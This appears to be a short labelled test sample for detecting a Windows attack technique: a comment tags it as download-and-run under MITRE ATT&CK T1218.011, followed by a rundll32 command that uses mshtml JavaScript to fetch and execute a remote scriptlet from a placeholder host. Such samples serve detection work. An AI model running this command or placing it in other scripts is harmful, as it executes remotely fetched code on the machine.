@rem expect: download-and-run | source: MITRE ATT&CK T1218.011
rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://files.example.invalid/a.sct")
